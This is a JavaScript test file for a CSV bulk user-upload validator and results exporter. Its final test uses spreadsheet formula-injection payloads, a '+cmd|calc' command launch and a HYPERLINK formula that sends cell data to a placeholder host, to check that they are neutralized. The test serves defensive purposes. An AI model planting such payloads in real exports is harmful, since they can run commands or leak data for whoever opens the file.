import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { checkUserCsv, csvResults, csvTemplate, maxCsvRows } from './user-csv.js';

const domains = ['contoso.onmicrosoft.com', 'contoso.com'];
const header = 'First name,Last name,Display name,Email,Status update\n';

describe('the bulk-upload CSV', () => {
  it('offers a template that passes its own check', () => {
    const { rows, fileProblems } = checkUserCsv(csvTemplate(domains[0]), domains);
    assert.deepEqual(fileProblems, []);
    assert.equal(rows.length, 1);
    assert.deepEqual(rows[0].problems, []);
  });

  it('explains every problem of every row, with its line number', () => {
    const text = `${header},,,,\nA,B,Ok,a@contoso.com,\nC,D,Dup,A@CONTOSO.COM,\nE,F,Bad,e@example.com,\nG,H,${'x'.repeat(51)},not-an-email,\n`;
    const { rows, fileProblems } = checkUserCsv(text, domains);
    assert.deepEqual(fileProblems, []);
    assert.deepEqual(
      rows.map((r) => [r.line, r.problems]),
      [
        [2, ['Display name is required', 'Email is required']],
        [3, []],
        [4, ['Email repeats line 3']],
        [5, ['Email must end in @contoso.onmicrosoft.com or @contoso.com']],
        [6, ['Display name is longer than 50 characters', 'Email not-an-email is not a valid address']],
      ],
    );
    assert.deepEqual(rows.map((r) => r.emailValid), [false, true, false, false, false]);
  });

  it('accepts headers in any case and order, a byte-order mark and quoted cells', () => {
    const text = '\uFEFFemail,DISPLAY NAME,first name,last name\n"ada@contoso.com","Lovelace, Ada",Ada,Lovelace\n';
    const { rows, fileProblems } = checkUserCsv(text, domains);
    assert.deepEqual(fileProblems, []);
    assert.equal(rows[0].displayName, 'Lovelace, Ada');
    assert.deepEqual(rows[0].problems, []);
  });

  it('refuses files with unknown columns, no users or too many users as a whole', () => {
    assert.match(checkUserCsv(`First name,Last name,Display name,Email,Phone\n`, domains).fileProblems.join(' '), /Unknown column: Phone/);
    assert.match(checkUserCsv(header, domains).fileProblems.join(' '), /no users/);
    assert.match(checkUserCsv('', domains).fileProblems.join(' '), /empty/);
    const many = header + Array.from({ length: maxCsvRows + 1 }, (_, i) => `,,U${i},u${i}@contoso.com,`).join('\n');
    assert.match(checkUserCsv(many, domains).fileProblems.join(' '), /at most 100/);
    assert.match(checkUserCsv('a,"b\n', domains).fileProblems.join(' '), /not valid CSV/);
  });

  it('writes results with the status and temporary password of each row, quoting as needed', () => {
    const { rows } = checkUserCsv(`${header}Ada,Lovelace,"Lovelace, Ada",ada@contoso.com,\n`, domains);
    const text = csvResults([{ row: rows[0], status: 'Created', password: 'k7Hq!p2Rz9@mWx4T' }]);
    assert.equal(text, 'First name,Last name,Display name,Email,Status update,Temporary password\nAda,Lovelace,"Lovelace, Ada",ada@contoso.com,Created,k7Hq!p2Rz9@mWx4T\n');
  });
  it('reads neutralized names back to their original text and neutralizes formulas in the results download', () => {
    const displayName = '=HYPERLINK("http://x.example/?"&A1,"click")';
    const upload = `${header}"+cmd|calc","@SUM(1+1)","${displayName.replaceAll('"', '""')}",ada@contoso.com,\n,,"''=1+1",bob@contoso.com,\n`;
    // A name that really starts with '= is written (by Tenantry, or a spreadsheet) with one quote more.
    const { rows } = checkUserCsv(upload, domains);
    assert.deepEqual(rows.map((r) => [r.firstName, r.lastName, r.displayName]), [['+cmd|calc', '@SUM(1+1)', displayName], ['', '', "'=1+1"]]);
    const text = csvResults(rows.map((row) => ({ row, status: '-failed' })));
    assert.equal(
      text,
      'First name,Last name,Display name,Email,Status update,Temporary password\n' +
        `"'+cmd|calc","'@SUM(1+1)","'=HYPERLINK(""http://x.example/?""&A1,""click"")",ada@contoso.com,"'-failed",\n` +
        `,,"''=1+1",bob@contoso.com,"'-failed",\n`,
    );
  });
});
